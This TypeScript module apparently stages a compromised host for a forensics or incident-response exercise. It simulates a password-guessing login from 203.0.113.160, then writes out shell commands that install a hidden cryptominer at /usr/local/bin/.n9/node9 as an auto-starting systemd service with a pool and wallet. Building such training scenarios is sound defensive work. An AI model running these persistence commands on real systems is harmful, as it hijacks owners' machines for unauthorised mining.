// The miner has a unit of its own; what tells of the entry is in older parts of auth.log.
import type { Dress } from '../../dress.ts'
import type { Stage } from '../../stage.ts'
import { guessedIn, owner, weakRoot } from '../../weak-root.ts'

export function dress(dress: Dress): void {
  weakRoot(dress)
}

export async function plant(stage: Stage): Promise<void> {
  await guessedIn(stage, '203.0.113.160', { path: '/usr/local/bin/.n9/node9', cron: false })
  const { POOL, WALLET } = stage.values
  await stage.inside(`while ! pgrep -x node9; do sleep 0.2; done; pkill -x node9
printf '[Unit]\\nDescription=Node\\n[Service]\\nExecStart=/usr/local/bin/.n9/node9 -o ${POOL} -u ${WALLET} -p x -k\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' >/etc/systemd/system/node9.service
systemctl daemon-reload; systemctl -q enable --now node9`)
  await stage.later(9 * 24, { guesses: 60, friends: [owner] })
}
